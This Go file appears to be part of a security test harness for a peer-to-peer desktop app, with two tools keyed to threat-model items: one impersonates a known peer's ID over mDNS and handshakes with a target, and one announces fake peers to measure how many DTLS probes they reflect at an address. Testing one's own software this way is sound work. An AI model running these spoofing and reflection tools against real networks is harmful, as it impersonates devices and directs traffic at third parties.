package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"strconv"
	"time"

	"github.com/google/uuid"
	"github.com/grandcat/zeroconf"
	"github.com/pion/dtls/v2/pkg/protocol"
	"github.com/pion/dtls/v2/pkg/protocol/handshake"
	"github.com/pion/dtls/v2/pkg/protocol/recordlayer"

	"github.com/peerdesk/peerdesk/discovery"
	"github.com/peerdesk/peerdesk/identity"
	"github.com/peerdesk/peerdesk/transport"
)

func init() {
	register("claim-id", "claim a known peer's public id with another key: mDNS records and handshakes (H1, M5)", claimID)
	register("reflect", "announce fake peers at an address and count the probes they draw (M5)", reflectProbes)
}

// claimID announces -id with the name -name at this host's address over
// mDNS and handshakes with -victim as -id, for -for. It reports whether
// the victim let it in and what reached it.
func claimID(ctx context.Context, args []string, out report) error {
	fs := flag.NewFlagSet("claim-id", flag.ContinueOnError)
	idFlag := fs.String("id", "", "the peer id to claim")
	name := fs.String("name", "impostor", "the display name to announce")
	victim := fs.String("victim", "", "HOST:PORT of the peer to fool")
	port := fs.Int("port", 47299, "UDP port to listen on")
	dur := fs.Duration("for", 5*time.Second, "how long to keep announcing and dialling")
	if err := fs.Parse(args); err != nil {
		return err
	}
	id, err := uuid.Parse(*idFlag)
	if err != nil || *victim == "" {
		return fmt.Errorf("want -id UUID and -victim HOST:PORT")
	}
	rec := &recorder{}
	ep, ident, err := endpoint(ctx, id, net.JoinHostPort("0.0.0.0", strconv.Itoa(*port)), rec)
	if err != nil {
		return err
	}
	defer ep.Close()
	ip := ownIPv4()
	ann := discovery.Announcement{ID: id.String(), Name: *name, Fingerprint: ident.Fingerprint(), Port: *port, Version: 1}
	srv, err := zeroconf.RegisterProxy(id.String(), discovery.Service, discovery.Domain, *port, "impostor", []string{ip}, ann.TXT(), nil)
	if err != nil {
		return fmt.Errorf("mdns: %w", err)
	}
	srv.TTL(30)
	defer srv.Shutdown()

	dials, accepted := 0, 0
	var lastErr error
	deadline := time.Now().Add(*dur)
	for time.Now().Before(deadline) && ctx.Err() == nil {
		cctx, cancel := context.WithTimeout(ctx, 2*time.Second)
		_, err := ep.Call(cctx, "", []string{*victim}, "peer.hello", map[string]any{"name": *name, "port": *port}, nil)
		cancel()
		dials++
		// Any answer, even a refusal from the victim's service, means the
		// handshake let us in.
		var re *transport.RemoteError
		if err == nil || errors.As(err, &re) {
			accepted++
		} else {
			lastErr = err
		}
		time.Sleep(500 * time.Millisecond)
	}
	out["dials"] = dials
	out["handshakes_accepted"] = accepted
	if lastErr != nil {
		out["last_error"] = lastErr.Error()
	}
	rec.report(out)
	return nil
}

// reflectProbes announces -records fake peers (fresh ids) whose address is
// this host's -port, for -for, and counts the datagrams peers send there
// during the announcements and in each -window after they stop, for -watch.
func reflectProbes(ctx context.Context, args []string, out report) error {
	fs := flag.NewFlagSet("reflect", flag.ContinueOnError)
	records := fs.Int("records", 5, "fake peers to announce")
	port := fs.Int("port", 47298, "UDP port the fake records name (counted here)")
	dur := fs.Duration("for", 10*time.Second, "how long to announce")
	watch := fs.Duration("watch", 30*time.Second, "how long to keep counting after the announcements stop")
	window := fs.Duration("window", 10*time.Second, "counting window after the announcements stop")
	if err := fs.Parse(args); err != nil {
		return err
	}
	conn, err := net.ListenUDP("udp4", &net.UDPAddr{Port: *port})
	if err != nil {
		return err
	}
	defer conn.Close()
	counts := make(chan arrival, 1<<16)
	go func() {
		buf := make([]byte, 2048)
		for {
			n, _, err := conn.ReadFrom(buf)
			if err != nil {
				close(counts)
				return
			}
			select {
			case counts <- arrival{at: time.Now(), attempt: helloRandom(buf[:n])}:
			default:
			}
		}
	}()
	ip := ownIPv4()
	var servers []*zeroconf.Server
	for range *records {
		ident, _, _, err := identity.NewIdentity(uuid.New())
		if err != nil {
			return err
		}
		ann := discovery.Announcement{ID: ident.ID.String(), Name: "ghost", Fingerprint: ident.Fingerprint(), Port: *port, Version: 1}
		srv, err := zeroconf.RegisterProxy(ann.ID, discovery.Service, discovery.Domain, *port, "ghost-"+ann.ID[:8], []string{ip}, ann.TXT(), nil)
		if err != nil {
			return fmt.Errorf("mdns: %w", err)
		}
		servers = append(servers, srv)
	}
	start := time.Now()
	select {
	case <-time.After(*dur):
	case <-ctx.Done():
	}
	stop := time.Now()
	for _, s := range servers {
		s.Shutdown()
	}
	select {
	case <-time.After(*watch):
	case <-ctx.Done():
	}
	conn.Close()
	during, attemptsDuring := 0, 0
	after := make([]int, int(*watch / *window))
	attemptsAfter := make([]int, len(after))
	seen := map[string]bool{}
	for a := range counts {
		// A retransmitted ClientHello keeps its random: a new random is a
		// new handshake, that is, one more probe.
		first := a.attempt != "" && !seen[a.attempt]
		seen[a.attempt] = true
		switch {
		case a.at.Before(stop):
			during++
			if first {
				attemptsDuring++
			}
		default:
			if i := int(a.at.Sub(stop) / *window); i < len(after) {
				after[i]++
				if first {
					attemptsAfter[i]++
				}
			}
		}
	}
	out["announced_for_s"] = stop.Sub(start).Seconds()
	out["datagrams_during"] = during
	out["datagrams_after_by_window"] = after
	out["handshakes_during"] = attemptsDuring
	out["handshakes_after_by_window"] = attemptsAfter
	return nil
}

// arrival is one datagram the fake records drew.
type arrival struct {
	at      time.Time
	attempt string // the ClientHello's random, "" if it is none
}

// helloRandom is the random of a DTLS ClientHello datagram's first
// record, or "" if the datagram starts with something else.
func helloRandom(b []byte) string {
	const (
		at             = recordlayer.HeaderSize + handshake.HeaderLength + 2 // record header, handshake header, version
		fragmentOffset = recordlayer.HeaderSize + 6
	)
	if len(b) < at+handshake.RandomLength || protocol.ContentType(b[0]) != protocol.ContentTypeHandshake ||
		handshake.Type(b[recordlayer.HeaderSize]) != handshake.TypeClientHello ||
		b[fragmentOffset] != 0 || b[fragmentOffset+1] != 0 || b[fragmentOffset+2] != 0 {
		return ""
	}
	return string(b[at : at+handshake.RandomLength])
}
